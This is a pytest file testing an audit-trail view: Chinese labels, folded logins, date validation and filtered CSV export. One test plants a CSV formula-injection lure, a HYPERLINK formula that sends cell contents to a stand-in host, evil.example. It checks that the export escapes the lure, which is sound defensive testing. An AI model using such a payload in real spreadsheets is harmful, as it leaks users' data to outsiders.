"""The audit trail reads in plain Chinese: labels from one registry, names instead of codes, logins
folded away, dates checked, and an export of exactly the filtered list named in local time."""

import csv
import io
import re

import pytest
import time_machine

from audit import labels, services
from core.safe_text import for_spreadsheet
from tests.workflow.helpers import draft, to_state


@pytest.fixture
def auditor(client, user):
    client.force_login(user("auditor"))
    return client


def visible(page):
    """The events table without its 技术详情 disclosures: what an auditor sees at first sight."""
    table = page[page.index('<table class="events') : page.index("</table>")]
    return re.sub(r'<details class="tech">.*?</details>', "", table, flags=re.S)


def test_events_show_labels_names_departments_and_item_titles_not_codes(auditor, user):
    item = to_state(user, draft(user, title="2025年收支预算总表"), "head_review")
    page = visible(auditor.get("/audit/", {"department": "cwc"}).content.decode())
    assert "提交审核" in page and "起草" in page  # workflow's labels, registered in audit.labels
    assert "财务资产处" in page and f'href="/workflow/items/{item.pk}/">公开事项：2025年收支预算总表' in page
    liaison = user("cwc_liaison")
    assert (liaison.get_full_name() or liaison.username) in page
    text = re.sub(r"<[^>]+>", " ", page)
    for code in ("disclosure.", "workflow.disclosureitem", "sha256:", " cwc "):
        assert code not in text
    assert "技术详情" in auditor.get("/audit/", {"department": "cwc"}).content.decode()


def test_every_registered_action_has_a_label_and_unknown_codes_never_show_raw():
    assert labels.label("disclosure.refuse") == "不予公开"
    assert str(labels.label("something.new")) == "系统与审计日志"


def test_logins_are_folded_away_unless_asked_for(auditor, user):
    services.record("auth.login", actor=user("cwc_head"))
    default = visible(auditor.get("/audit/").content.decode())
    assert ">登录<" not in default
    shown = visible(auditor.get("/audit/", {"logins": "on"}).content.decode())
    assert ">登录<" in shown


def test_a_start_after_the_end_is_explained_next_to_the_field(auditor):
    page = auditor.get("/audit/", {"since": "2026-05-01", "until": "2026-04-01"}).content.decode()
    assert "截止日期早于起始日期" in page and 'id="until-error"' in page


@time_machine.travel("2026-03-02 01:30:00+00:00", tick=False)  # 09:30 in Beijing
def test_the_export_has_the_filtered_events_and_a_local_time_name(auditor, user):
    services.record("test.kept", actor=user("cwc_head"), department="cwc")
    services.record("test.dropped", actor=user("jwc_head"), department="jwc")
    response = auditor.get("/audit/export/events.csv", {"department": "cwc"})
    assert response.status_code == 200
    assert 'filename="audit-events-20260302-093000.csv"' in response["Content-Disposition"]
    body = response.content.decode("utf-8-sig")
    assert "test.kept" in body and "test.dropped" not in body and "财务资产处" in body
    assert services.tree_size() and labels.label("audit.export_filtered") == "导出审计事件（筛选列表）"



def test_the_export_never_hands_a_spreadsheet_a_formula(auditor, user):
    """A display name typed as a formula (=HYPERLINK(…) sends what the sheet holds to a stranger's
    site when clicked) comes out as plain text in Excel/WPS: a leading single quote, as for +, -, @."""
    lure = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
    liaison = user("cwc_liaison")
    liaison.first_name, liaison.last_name = lure, ""
    liaison.save()
    head = user("cwc_head")
    head.first_name, head.last_name = "-2+3", ""
    head.save()
    draft(user, title=lure)
    services.record("test.kept", actor=head, department="cwc")
    response = auditor.get("/audit/export/events.csv", {"department": "cwc"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    people = {row[2] for row in rows[1:]}
    assert "'" + lure in people and "'-2+3" in people
    assert "公开事项：" + lure in {row[4] for row in rows}  # a title inside a cell is harmless
    assert [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


def test_every_formula_start_is_neutralised_and_numbers_are_left_alone():
    for text in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
        assert for_spreadsheet(text) == "'" + text
    assert [for_spreadsheet(value) for value in ("财务资产处", "a=b", 42, -3, None)] == ["财务资产处", "a=b", 42, -3, None]
